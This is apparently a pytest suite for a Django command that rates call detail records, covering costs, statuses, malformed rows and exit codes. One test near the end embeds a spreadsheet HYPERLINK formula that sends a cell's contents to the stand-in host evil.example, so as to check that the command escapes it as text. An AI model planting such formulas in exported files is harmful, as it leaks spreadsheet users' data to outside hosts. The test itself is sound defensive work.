"""`manage.py rate_cdrs` (issue 7 item 5): output columns and 4-place costs, malformed rows reported and kept
as invalid with exit 0, unreadable inputs refused with a non-zero exit, and never a database query."""
import csv
import io
import os
import re
import subprocess
import sys
from contextlib import ExitStack
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connections

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "cdrs"
ROOT = Path(__file__).resolve().parents[2]
ADDED = ["e164", "prefix", "destination", "billed_seconds", "cost", "status", "reason", "line"]


@pytest.fixture(autouse=True)
def no_database_queries():
    """Any query on any database fails the test (pytest-django also refuses a connection without `db`)."""

    def refuse(*args, **kwargs):
        raise AssertionError("rate_cdrs made a database query")

    with ExitStack() as stack:
        for alias in connections:
            stack.enter_context(connections[alias].execute_wrapper(refuse))
        yield


def run(tmp_path, cdrs="portal.csv", rates="rates.csv", *extra):
    out, err, target = io.StringIO(), io.StringIO(), tmp_path / "rated.csv"
    call_command("rate_cdrs", "--rates", str(FIXTURES / rates), "--cdrs", str(FIXTURES / cdrs),
                 "--out", str(target), *extra, stdout=out, stderr=err)
    with open(target, newline="", encoding="utf-8") as rated:
        rows = list(csv.DictReader(rated))
    return rows, out.getvalue(), err.getvalue()


def test_happy_path_columns_costs_and_statuses(tmp_path):
    rows, out, err = run(tmp_path, "portal.csv", "rates.csv", "--format", "portal", "--region", "US")
    assert list(rows[0]) == ["id", "direction", "caller", "callee", "answer_time", "billsec", "disposition", *ADDED]
    assert all(re.fullmatch(r"\d+\.\d{4}", row["cost"]) for row in rows)
    by_id = {row["id"]: row for row in rows}
    expected = {  # id: (e164, prefix, billed, cost, status)
        "p1": ("12125551234", "1212", "45", "0.5500", "rated"),  # worked example 1
        "p2": ("442083661177", "4420", "24", "0.1700", "rated"),  # worked example 3
        "p3": ("13105550123", "1310", "36", "0.0054", "rated"),  # 30/6: 31 s → 36 s
        "p4": ("12125550100", "1212", "60", "0.7000", "rated"),  # inbound, on the called DID
        "p5": ("", "", "0", "0.0000", "ignored"),  # not answered
        "p6": ("", "", "0", "0.0000", "ignored"),  # 911
        "p7": ("", "", "0", "0.0000", "ignored"),  # *97
        "p8": ("", "", "0", "0.0000", "invalid"),  # 86… without IDD is not a US number
        "p9": ("861012345678", "", "0", "0.0000", "unrated"),  # no rate for China
        "p10": ("", "", "0", "0.0000", "ignored"),  # zero seconds: no connect fee
    }
    assert {key: (r["e164"], r["prefix"], r["billed_seconds"], r["cost"], r["status"]) for key, r in by_id.items()} \
        == expected
    assert by_id["p1"]["destination"] == "USA New York" and by_id["p1"]["line"] == "2"
    assert "rated 4, unrated 1, ignored 4, invalid 1" in out and "total cost 1.4254" in out
    assert "portal.csv line 9: not a valid number for region US: 861012345678" in err


def test_malformed_rows_are_invalid_reported_on_stderr_and_the_command_succeeds(tmp_path):
    rows, out, err = run(tmp_path, "portal_malformed.csv")
    assert [(row["line"], row["status"]) for row in rows] == [
        ("2", "rated"), *((str(n), "invalid") for n in range(3, 11)), ("12", "rated")]
    assert rows[1]["reason"] == "direction must be outbound or inbound, not 'sideways'"
    assert rows[1]["id"] == "m2"  # the input columns are repeated, even for a bad row
    for line in range(3, 11):
        assert f"portal_malformed.csv line {line}: " in err
    assert "invalid 8" in out


@pytest.mark.parametrize("fmt, name, statuses", [
    ("asterisk", "asterisk_master.csv", ["rated", "ignored", "rated", "rated", "invalid", "invalid", "invalid",
                                         "ignored", "invalid"]),
    ("freeswitch", "freeswitch_example.csv", ["rated", "ignored", "rated", "invalid", "invalid", "invalid", "rated"]),
    ("fusionpbx", "fusionpbx_export.csv", ["rated", "rated", "ignored", "ignored", "ignored", "rated", "invalid",
                                           "invalid", "invalid", "rated"]),
])
def test_every_format_rates(tmp_path, fmt, name, statuses):
    rows, _out, err = run(tmp_path, name, "rates.csv", "--format", fmt, "--time-zone", "America/New_York")
    assert [row["status"] for row in rows] == statuses
    assert err.count(f"{name} line ") == statuses.count("invalid")


def test_headerless_formats_get_named_columns_and_fusionpbx_status_is_renamed(tmp_path):
    rows, _out, _err = run(tmp_path, "asterisk_master.csv", "rates.csv", "--format", "asterisk")
    assert list(rows[0])[:3] == ["accountcode", "src", "dst"] and rows[0]["billsec"] == "65"
    rows, _out, _err = run(tmp_path, "fusionpbx_export.csv", "rates.csv", "--format", "fusionpbx")
    assert rows[0]["cdr_status"] == "answered" and rows[0]["status"] == "rated"


def test_dated_deck_options_and_local_area_code(tmp_path):
    cdrs = tmp_path / "cdrs.csv"
    cdrs.write_text("id,direction,caller,callee,answer_time,billsec\n"
                    "a,outbound,1001,5551234,2024-01-15T10:00:00Z,15\n"
                    "b,outbound,1001,5551234,2024-03-15T10:00:00Z,15\n"
                    "c,inbound,+13105550199,18005550100,2024-03-15T10:00:00Z,61\n")
    out = tmp_path / "rated.csv"
    call_command("rate_cdrs", "--rates", str(FIXTURES / "rates_dated.csv"), "--cdrs", str(cdrs), "--out", str(out),
                 "--local-npa", "212", stdout=io.StringIO(), stderr=io.StringIO())
    rows = list(csv.DictReader(out.open(newline="")))
    assert [(r["e164"], r["destination"], r["billed_seconds"], r["cost"]) for r in rows] == [
        ("12125551234", "New York promo", "5", "0.0004"),  # 10 free seconds, then 0.005/min
        ("12125551234", "New York", "15", "0.0020"),
        ("18005550100", "Toll-free inbound", "120", "0.0400"),
    ]


def test_bad_deck_rows_are_reported_and_the_run_goes_on(tmp_path):
    rows, _out, err = run(tmp_path, "portal.csv", "rates_bad_rows.csv")
    assert "rates_bad_rows.csv line 3: prefix must be" in err
    assert "column 'notes' is not a rate field" in err
    assert {row["id"]: row["prefix"] for row in rows}["p1"] == "1"


@pytest.mark.parametrize("args, message", [
    (["--rates", "missing.csv"], "cannot read rates file"),
    (["--cdrs", "missing.csv"], "cannot read CDR file"),
    (["--rates", str(FIXTURES / "rates_no_header.csv")], "lacks the column"),
    (["--rates", str(FIXTURES)], "cannot read rates file"),
    (["--format", "fusionpbx"], "cannot be read as fusionpbx"),
    (["--region", "XX"], "unknown region"),
    (["--time-zone", "Mars/Olympus"], "unknown time zone"),
    (["--local-npa", "12"], "NANP area code"),
])
def test_unusable_inputs_are_refused(tmp_path, args, message):
    options = {"--rates": str(FIXTURES / "rates.csv"), "--cdrs": str(FIXTURES / "portal.csv"),
               "--out": str(tmp_path / "rated.csv")}
    extra = []
    for flag, value in zip(args[::2], args[1::2]):
        if flag in options:
            options[flag] = value
        else:
            extra += [flag, value]
    with pytest.raises(CommandError, match=message):
        call_command("rate_cdrs", *[x for pair in options.items() for x in pair], *extra,
                     stdout=io.StringIO(), stderr=io.StringIO())
    assert not (tmp_path / "rated.csv").exists()
    assert not (tmp_path / "rated.csv.partial").exists()


def test_out_must_not_overwrite_an_input(tmp_path):
    cdrs = tmp_path / "cdrs.csv"
    cdrs.write_text((FIXTURES / "portal.csv").read_text())
    with pytest.raises(CommandError, match="must not be one of the input files"):
        call_command("rate_cdrs", "--rates", str(FIXTURES / "rates.csv"), "--cdrs", str(cdrs), "--out", str(cdrs))


def command(tmp_path, *args):
    """Run the real command in a fresh process with an empty var dir: no database file exists there."""
    env = {**os.environ, "PORTAL_VAR_DIR": str(tmp_path / "var"), "PORTAL_ENV": "development"}
    env.pop("DATABASE_URL", None)
    return subprocess.run([sys.executable, "manage.py", "rate_cdrs", *args], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=120)


def test_the_process_exit_status_and_no_database_file(tmp_path):
    done = command(tmp_path, "--rates", str(FIXTURES / "rates.csv"), "--cdrs", str(FIXTURES / "portal_malformed.csv"),
                   "--format", "portal", "--region", "US", "--out", str(tmp_path / "rated.csv"))
    assert done.returncode == 0, done.stderr
    assert "portal_malformed.csv line 3:" in done.stderr
    assert not (tmp_path / "var" / "portal.sqlite3").exists()  # runs without a database, before any migration
    missing = command(tmp_path, "--rates", str(tmp_path / "nope.csv"), "--cdrs", str(FIXTURES / "portal.csv"),
                      "--out", str(tmp_path / "rated2.csv"))
    assert missing.returncode != 0
    assert "cannot read rates file" in missing.stderr and "No such file or directory" in missing.stderr


def test_a_formula_in_an_uploaded_cdr_comes_back_as_text_in_the_rated_file(tmp_path):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    cdrs = tmp_path / "evil.csv"
    cdrs.write_text("id,direction,caller,callee,answer_time,billsec,disposition\n"
                    f'e1,outbound,"{hyperlink.replace(chr(34), chr(34) * 2)}",+12125551234,2024-01-15T10:30:00Z,45,'
                    "ANSWERED\n", encoding="utf-8")
    rows, _out, _err = run(tmp_path, cdrs, "rates.csv", "--format", "portal", "--region", "US")
    assert (rows[0]["caller"], rows[0]["callee"], rows[0]["status"]) == ("'" + hyperlink, "+12125551234", "rated")


def test_manage_py_runs_the_command_without_loading_the_apps(tmp_path):
    """manage.py runs this database-free tool without django.setup() (no models, admin or Celery tasks: most of a
    start-up); the file it writes is the one the command writes through Django."""
    args = ["--rates", str(FIXTURES / "rates.csv"), "--cdrs", str(FIXTURES / "portal.csv"), "--format", "portal",
            "--region", "US"]
    script = ("import runpy, sys\nfrom django.apps import apps\n"
              f"sys.argv = ['manage.py', 'rate_cdrs', *{args!r}, '--out', {str(tmp_path / 'standalone.csv')!r}]\n"
              "runpy.run_path('manage.py', run_name='__main__')\nprint('apps ready:', apps.ready)\n")
    env = {**os.environ, "PORTAL_VAR_DIR": str(tmp_path / "var"), "PORTAL_ENV": "development"}
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert "apps ready: False" in done.stdout and "rates: " in done.stdout
    call_command("rate_cdrs", *args, "--out", str(tmp_path / "django.csv"), stdout=io.StringIO(), stderr=io.StringIO())
    assert (tmp_path / "standalone.csv").read_text() == (tmp_path / "django.csv").read_text()
